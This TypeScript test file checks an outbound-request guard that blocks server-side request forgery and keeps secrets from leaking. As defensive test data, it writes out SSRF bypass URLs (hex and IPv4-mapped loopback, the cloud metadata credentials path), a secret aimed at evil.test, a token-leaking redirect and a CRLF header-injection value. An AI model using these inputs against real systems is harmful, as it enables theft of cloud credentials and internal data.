// The attacker's tests of the one outbound request: real listeners on loopback that must hear nothing when a rule
// refuses, names that resolve somewhere private, IPv6 and IPv4-mapped spellings, the metadata address, secrets sent
// where they are not bound or over http, redirects, endless bodies, and the secret kept out of every result.
import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ResolvedAddress, Resolver } from "./resolve";
import type { OutboundResult } from "./refusal";
import { sendOutbound, type OutboundOptions, type OutboundRequest } from "./send";

const SECRET = "Bearer sk_live_outbound_secret_0123456789";
const TOKEN = "sk_live_outbound_secret_0123456789";
const PAYMENTS = "OPLEDGER_SECRET_PAYMENTS";

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

interface Listener {
  server: Server;
  port: number;
  seen: Seen[];
  answer: (res: ServerResponse, seen: Seen) => void;
}

const listeners: Listener[] = [];

async function listen(host = "127.0.0.1"): Promise<Listener> {
  const listener: Listener = {
    server: createServer(),
    port: 0,
    seen: [],
    answer: (res) => {
      res.writeHead(200, { "content-type": "application/json" });
      res.end('{"ok":true}');
    },
  };
  listener.server.on("request", (req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const seen = {
        method: req.method ?? "",
        url: req.url ?? "",
        headers: req.headers,
        body: Buffer.concat(chunks).toString(),
      };
      listener.seen.push(seen);
      listener.answer(res, seen);
    });
  });
  await new Promise<void>((resolve) => listener.server.listen(0, host, resolve));
  listener.port = (listener.server.address() as AddressInfo).port;
  listeners.push(listener);
  return listener;
}

let provider: Listener;

beforeEach(async () => {
  provider = await listen();
});

afterEach(async () => {
  for (const l of listeners.splice(0)) {
    l.server.closeAllConnections();
    await new Promise<void>((resolve) => l.server.close(() => resolve()));
  }
});

/** A resolver that answers from a table and counts what it was asked. */
function resolverOf(table: Record<string, string[] | ((n: number) => string[])>): Resolver & { asked: string[] } {
  const asked: string[] = [];
  const resolve = ((hostname: string): Promise<ResolvedAddress[]> => {
    asked.push(hostname);
    const entry = table[hostname];
    const list = typeof entry === "function" ? entry(asked.filter((h) => h === hostname).length) : entry;
    if (!list)
      return Promise.reject(Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: "ENOTFOUND" }));
    return Promise.resolve(list.map((address) => ({ address, family: address.includes(":") ? 6 : 4 })));
  }) as Resolver & { asked: string[] };
  resolve.asked = asked;
  return resolve;
}

const environment = {
  [PAYMENTS]: SECRET,
  [`${PAYMENTS}_HOSTS`]: "api.payments.example,127.0.0.1,localhost",
  OPLEDGER_SECRET_UNBOUND: SECRET,
  NEXTAUTH_SECRET: "opl_nextauth_secret_must_never_leave_0123456789",
  DATABASE_URL: "postgresql://admin:hunter2hunter2@db.internal/opledger",
};

const open: OutboundOptions = { allowPrivate: true, environment };
const closed: OutboundOptions = { allowPrivate: false, environment };

function get(url: string, extra: Partial<OutboundRequest> = {}): OutboundRequest {
  return { url, timeoutMs: 2000, ...extra };
}

/** The sentence of a refusal or failure, the body of an answer. */
function textOf(result: OutboundResult): string {
  return result.outcome === "answered" ? result.body : result.reason;
}

/** Nothing of the secret, in any spelling, anywhere in what came back. */
function expectNoSecret(value: unknown): void {
  const text = JSON.stringify(value);
  expect(text).not.toContain(TOKEN);
  expect(text).not.toContain("sk_live_outbound");
  expect(text).not.toContain("opl_nextauth_secret");
  expect(text).not.toContain("hunter2");
}

describe("what gets through", () => {
  it("answers from a loopback provider when private addresses are allowed, with the bound secret", async () => {
    const result = await sendOutbound(
      get(`http://127.0.0.1:${provider.port}/charges?key=a%20b`, { secretEnv: PAYMENTS }),
      open,
    );
    expect(result).toEqual({
      outcome: "answered",
      status: 200,
      contentType: "application/json",
      body: '{"ok":true}',
      truncated: false,
    });
    expect(provider.seen).toHaveLength(1);
    expect(provider.seen[0]).toMatchObject({ method: "GET", url: "/charges?key=a%20b" });
    expect(provider.seen[0]?.headers.authorization).toBe(SECRET);
    expect(provider.seen[0]?.headers["accept-encoding"]).toBe("identity");
  });

  it("sends a POST body, and another header for the secret when asked", async () => {
    await sendOutbound(
      get(`http://127.0.0.1:${provider.port}/hook`, {
        method: "POST",
        body: '{"event":"x"}',
        headers: { "Content-Type": "application/json" },
        secretEnv: PAYMENTS,
        secretHeader: "x-api-key",
      }),
      open,
    );
    expect(provider.seen[0]).toMatchObject({ method: "POST", body: '{"event":"x"}' });
    expect(provider.seen[0]?.headers["x-api-key"]).toBe(SECRET);
    expect(provider.seen[0]?.headers.authorization).toBeUndefined();
  });

  it("reaches IPv6 loopback when allowed", async () => {
    const six = await listen("::1");
    const result = await sendOutbound(get(`http://[::1]:${six.port}/x`), open);
    expect(result).toMatchObject({ outcome: "answered", status: 200 });
    expect(six.seen[0]?.headers.host).toBe(`[::1]:${six.port}`);
  });

  it("connects to the address it checked and keeps the name as Host (a DNS answer that changes is never asked for)", async () => {
    // First answer: the listener's address. Any later answer: an address where nothing listens.
    const resolve = resolverOf({ "api.payments.example": (n) => (n === 1 ? ["127.0.0.1"] : ["127.0.0.2"]) });
    const plain = await sendOutbound(get(`http://api.payments.example:${provider.port}/pinned`), { ...open, resolve });
    expect(plain).toMatchObject({ outcome: "answered", status: 200 });
    expect(resolve.asked).toEqual(["api.payments.example"]);
    expect(provider.seen.map((s) => [s.url, s.headers.host])).toEqual([
      ["/pinned", `api.payments.example:${provider.port}`],
    ]);
  });

  it("follows OPLEDGER_OUTBOUND_ALLOW_PRIVATE when the caller does not say", async () => {
    const result = await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`), { environment });
    const allowed = process.env.OPLEDGER_OUTBOUND_ALLOW_PRIVATE === "on";
    expect(result.outcome).toBe(allowed ? "answered" : "refused");
    expect(provider.seen).toHaveLength(allowed ? 1 : 0);
  });
});

describe("private, metadata and other addresses: refused before any connection", () => {
  it.each([
    ["127.0.0.1", "http://127.0.0.1:PORT/x"],
    ["127.0.0.1 spelled in hex", "http://0x7f.0.0.1:PORT/x"],
    ["127.0.0.1 spelled as one number", "http://2130706433:PORT/x"],
    ["IPv4-mapped ::ffff:127.0.0.1", "http://[::ffff:127.0.0.1]:PORT/x"],
    ["IPv4-mapped in hex", "http://[::ffff:7f00:1]:PORT/x"],
  ])("%s, where a listener waits, hears nothing", async (_name, template) => {
    const result = await sendOutbound(get(template.replace("PORT", String(provider.port))), closed);
    expect(result).toMatchObject({ outcome: "refused", rule: "private_address" });
    expect(textOf(result)).toMatch(/loopback.*OPLEDGER_OUTBOUND_ALLOW_PRIVATE=on/);
    expect(provider.seen).toHaveLength(0);
  });

  it("the same IPv4-mapped spelling does reach the listener once allowed (so the refusal above is what stopped it)", async () => {
    const result = await sendOutbound(get(`http://[::ffff:127.0.0.1]:${provider.port}/x`), open);
    expect(result).toMatchObject({ outcome: "answered", status: 200 });
    expect(provider.seen).toHaveLength(1);
  });

  it("refuses IPv6 loopback when private addresses are off", async () => {
    const six = await listen("::1");
    expect(await sendOutbound(get(`http://[::1]:${six.port}/x`), closed)).toMatchObject({ rule: "private_address" });
    expect(six.seen).toHaveLength(0);
  });

  it("refuses a public-looking name that resolves to the listener's private address", async () => {
    const resolve = resolverOf({ "api.innocent.example": ["127.0.0.1"] });
    const result = await sendOutbound(get(`http://api.innocent.example:${provider.port}/x`), { ...closed, resolve });
    expect(result).toEqual({
      outcome: "refused",
      rule: "private_address",
      reason:
        "api.innocent.example resolves to 127.0.0.1, which is a loopback address; " +
        "outbound requests go there only with OPLEDGER_OUTBOUND_ALLOW_PRIVATE=on.",
    });
    expect(provider.seen).toHaveLength(0);
  });

  it("refuses a name when any one of its addresses is private, since the system may pick that one", async () => {
    const resolve = resolverOf({ "mixed.example": ["93.184.216.34", "::ffff:10.0.0.7"] });
    const result = await sendOutbound(get("http://mixed.example/x"), { ...closed, resolve });
    expect(result).toMatchObject({ rule: "private_address" });
    expect(textOf(result)).toContain(
      "mixed.example resolves to ::ffff:10.0.0.7, which is a private (RFC 1918) address (10.0.0.7)",
    );
  });

  it.each([
    ["10.1.2.3", "http://10.1.2.3/x"],
    ["192.168.0.10", "http://192.168.0.10:8080/x"],
    ["172.20.0.1", "http://172.20.0.1/x"],
    ["100.64.0.1 (CGNAT)", "http://100.64.0.1/x"],
    ["fd00::2 (unique-local)", "http://[fd00::2]/x"],
    ["fe80::1 (link-local)", "http://[fe80::1]/x"],
  ])("refuses %s without connecting", async (_name, url) => {
    const resolve = resolverOf({});
    expect(await sendOutbound(get(url, { timeoutMs: 60_000 }), { ...closed, resolve })).toMatchObject({
      outcome: "refused",
      rule: "private_address",
    });
    expect(resolve.asked).toEqual([]);
  });

  it.each([
    ["169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    ["its IPv4-mapped form", "http://[::ffff:169.254.169.254]/latest/meta-data/"],
    ["AWS's IPv6 metadata address", "http://[fd00:ec2::254]/latest/meta-data/"],
    ["0.0.0.0", "http://0.0.0.0:PORT/x"],
    ["the unspecified IPv6 address", "http://[::]:PORT/x"],
    ["a multicast address", "http://224.0.0.251/x"],
  ])("refuses %s even with private addresses allowed", async (_name, template) => {
    const result = await sendOutbound(
      get(template.replace("PORT", String(provider.port)), { timeoutMs: 60_000 }),
      open,
    );
    expect(result).toMatchObject({ outcome: "refused", rule: "forbidden_address" });
    expect(textOf(result)).toContain("outbound requests never go there");
    expect(provider.seen).toHaveLength(0);
  });

  it("refuses a name that resolves to the metadata address", async () => {
    const resolve = resolverOf({ "metadata.attacker.example": ["169.254.169.254"] });
    expect(await sendOutbound(get("http://metadata.attacker.example/latest"), { ...open, resolve })).toEqual({
      outcome: "refused",
      rule: "forbidden_address",
      reason:
        "metadata.attacker.example resolves to 169.254.169.254, which is the cloud metadata address; outbound requests never go there.",
    });
  });

  it("fails clearly for a name that does not resolve", async () => {
    const resolve = resolverOf({});
    expect(await sendOutbound(get("http://nowhere.example/x"), { ...closed, resolve })).toMatchObject({
      outcome: "failed",
      kind: "unresolved",
      reason: "nowhere.example could not be resolved (getaddrinfo ENOTFOUND nowhere.example).",
    });
  });
});

describe("secrets", () => {
  it.each(["NEXTAUTH_SECRET", "DATABASE_URL", "OPLEDGER_SECRET_PAYMENTS_HOSTS", "opledger_secret_payments"])(
    "never sends %s, even to a listener that is otherwise allowed",
    async (name) => {
      const result = await sendOutbound(get(`http://127.0.0.1:${provider.port}/steal`, { secretEnv: name }), open);
      expect(result).toMatchObject({ outcome: "refused", rule: "secret_name" });
      expect(provider.seen).toHaveLength(0);
      expectNoSecret(result);
    },
  );

  it("refuses a secret bound to another host before anything leaves, DNS included", async () => {
    const resolve = resolverOf({ "evil.test": ["93.184.216.34"] });
    const result = await sendOutbound(get("https://evil.test/collect", { secretEnv: PAYMENTS }), { ...open, resolve });
    expect(result).toEqual({
      outcome: "refused",
      rule: "secret_host",
      reason: `${PAYMENTS} may only be sent to api.payments.example, 127.0.0.1, localhost; this request goes to evil.test.`,
    });
    expect(resolve.asked).toEqual([]);
  });

  it("refuses a bound secret to another loopback address where a listener waits", async () => {
    const other = await listen("127.0.0.2").catch(() => null);
    if (!other) return; // 127.0.0.2 is not configured on every machine; the row above covers the rule.
    expect(await sendOutbound(get(`http://127.0.0.2:${other.port}/x`, { secretEnv: PAYMENTS }), open)).toMatchObject({
      rule: "secret_host",
    });
    expect(other.seen).toHaveLength(0);
  });

  it("refuses a secret over plain http to a host that is not loopback", async () => {
    const resolve = resolverOf({ "api.payments.example": ["127.0.0.1"] });
    const result = await sendOutbound(get(`http://api.payments.example:${provider.port}/x`, { secretEnv: PAYMENTS }), {
      ...open,
      resolve,
    });
    expect(result).toEqual({
      outcome: "refused",
      rule: "secret_https",
      reason: `${PAYMENTS} is only sent over https (or to a loopback address); this request is plain http to api.payments.example.`,
    });
    expect(provider.seen).toHaveLength(0);
  });

  it("sends a secret over http to localhost only when localhost really resolves to loopback", async () => {
    const honest = resolverOf({ localhost: ["127.0.0.1"] });
    expect(
      await sendOutbound(get(`http://localhost:${provider.port}/x`, { secretEnv: PAYMENTS }), {
        ...open,
        resolve: honest,
      }),
    ).toMatchObject({ outcome: "answered" });
    expect(provider.seen).toHaveLength(1);

    const lying = resolverOf({ localhost: ["10.9.9.9"] });
    const refused = await sendOutbound(get(`http://localhost:${provider.port}/x`, { secretEnv: PAYMENTS }), {
      ...open,
      resolve: lying,
    });
    expect(refused).toMatchObject({ rule: "secret_https" });
    expect(textOf(refused)).toContain("does not resolve to loopback only");
    expect(provider.seen).toHaveLength(1);
  });

  it("refuses a missing secret instead of sending the request without it", async () => {
    const result = await sendOutbound(
      get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: "OPLEDGER_SECRET_NOT_SET" }),
      open,
    );
    expect(result).toMatchObject({ rule: "secret_missing" });
    expect(textOf(result)).toContain("OPLEDGER_SECRET_NOT_SET is not set");
    expect(provider.seen).toHaveLength(0);
  });

  it.each(["Authorization", "proxy-authorization", "Cookie", "Host", "x-api-key"])(
    "refuses a %s header passed in directly",
    async (name) => {
      const result = await sendOutbound(
        get(`http://127.0.0.1:${provider.port}/x`, {
          headers: { [name]: "Bearer smuggled" },
          ...(name === "x-api-key" ? { secretEnv: PAYMENTS, secretHeader: "X-Api-Key" } : {}),
        }),
        open,
      );
      expect(result).toMatchObject({ outcome: "refused", rule: "header" });
      expect(provider.seen).toHaveLength(0);
    },
  );

  it("keeps the secret out of the answer, whichever way the provider echoes it", async () => {
    provider.answer = (res, seen) => {
      res.writeHead(200, { "content-type": `application/json; echo=${TOKEN}` });
      res.end(
        JSON.stringify({
          raw: seen.headers.authorization,
          token: TOKEN,
          encoded: encodeURIComponent(SECRET),
        }),
      );
    };
    const result = await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: PAYMENTS }), open);
    expect(result).toMatchObject({ outcome: "answered" });
    expect(textOf(result)).toContain("[redacted]");
    expectNoSecret(result);
  });

  it("keeps the start of the secret out of an answer cut at the size cap", async () => {
    provider.answer = (res) => {
      res.writeHead(200);
      res.end(`${"x".repeat(90)}${SECRET}${"y".repeat(100)}`);
    };
    const result = await sendOutbound(
      get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: PAYMENTS, maxBytes: 90 + 7 + 12 }),
      open,
    );
    expect(result).toMatchObject({ outcome: "answered", truncated: true, body: `${"x".repeat(90)}[redacted]` });
    expectNoSecret(result);
  });

  it("keeps the secret out of a refused redirect and of errors", async () => {
    provider.answer = (res) => {
      res.writeHead(302, { location: `https://collector.example/?token=${TOKEN}` });
      res.end();
    };
    const redirect = await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: PAYMENTS }), open);
    expect(redirect).toMatchObject({ outcome: "refused", rule: "redirect", status: 302 });
    expectNoSecret(redirect);

    const broken = await sendOutbound(
      get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: "OPLEDGER_SECRET_BROKEN" }),
      {
        ...open,
        environment: { OPLEDGER_SECRET_BROKEN: `${SECRET}\r\nX-Injected: 1` },
      },
    );
    expect(broken).toMatchObject({ outcome: "failed", kind: "invalid" });
    expectNoSecret(broken);
    expect(provider.seen).toHaveLength(1);
  });
});

describe("answers", () => {
  it("does not follow a redirect: the target hears nothing", async () => {
    const target = await listen();
    provider.answer = (res) => {
      res.writeHead(307, { location: `http://127.0.0.1:${target.port}/elsewhere` });
      res.end();
    };
    const result = await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { secretEnv: PAYMENTS }), open);
    expect(result).toMatchObject({
      outcome: "refused",
      rule: "redirect",
      status: 307,
    });
    expect(textOf(result)).toContain("outbound requests do not follow redirects");
    expect(provider.seen).toHaveLength(1);
    expect(target.seen).toHaveLength(0);
  });

  it("stops reading an endless body at the cap", async () => {
    let written = 0;
    provider.answer = (res) => {
      res.writeHead(200, { "content-type": "text/plain" });
      const chunk = "z".repeat(16 * 1024);
      const more = (): void => {
        while (!res.destroyed && res.write(chunk)) written += chunk.length;
        if (!res.destroyed) res.once("drain", more);
      };
      more();
    };
    const result = await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { maxBytes: 64 * 1024 }), open);
    expect(result).toMatchObject({ outcome: "answered", status: 200, truncated: true });
    if (result.outcome === "answered") expect(result.body).toHaveLength(64 * 1024);
    // The provider could write far more than the cap before it noticed; it is cut off, not read to the end.
    expect(written).toBeLessThan(16 * 1024 * 1024);
  });

  it("reads a body of exactly the cap whole", async () => {
    provider.answer = (res) => {
      res.writeHead(200);
      res.end("a".repeat(1024));
    };
    expect(await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { maxBytes: 1024 }), open)).toMatchObject({
      truncated: false,
      body: "a".repeat(1024),
    });
  });

  it("gives up at the deadline when no answer comes, and when the body stalls", async () => {
    provider.answer = () => undefined;
    const started = Date.now();
    expect(await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { timeoutMs: 150 }), open)).toMatchObject({
      outcome: "failed",
      kind: "timeout",
      reason: `127.0.0.1 did not answer within 150 ms.`,
    });
    provider.answer = (res) => {
      res.writeHead(200);
      res.write("partial");
    };
    expect(await sendOutbound(get(`http://127.0.0.1:${provider.port}/x`, { timeoutMs: 150 }), open)).toMatchObject({
      kind: "timeout",
    });
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("counts a slow resolver against the deadline", async () => {
    const slow: Resolver = () => new Promise(() => undefined);
    expect(
      await sendOutbound(get("http://slow.example/x", { timeoutMs: 100 }), { ...open, resolve: slow }),
    ).toMatchObject({ kind: "timeout" });
  });

  it("reports a provider that is not listening", async () => {
    const result = await sendOutbound(get("http://127.0.0.1:9/x"), open);
    expect(result).toMatchObject({ outcome: "failed", kind: "unreachable" });
    expect(textOf(result)).toMatch(/^127\.0\.0\.1 could not be reached: .*ECONNREFUSED/);
  });

  it.each([
    ["not a URL", "not a url", /not an absolute URL/],
    ["another scheme", "ftp://127.0.0.1/x", /only http and https/],
    ["credentials in the URL", "http://user:hunter2hunter2@127.0.0.1/x", /carries a user name or password/],
  ])("refuses %s", async (_name, url, reason) => {
    const result = await sendOutbound(get(url), open);
    expect(result).toMatchObject({ outcome: "refused", rule: "url" });
    expect(textOf(result)).toMatch(reason);
    expectNoSecret(result);
  });
});
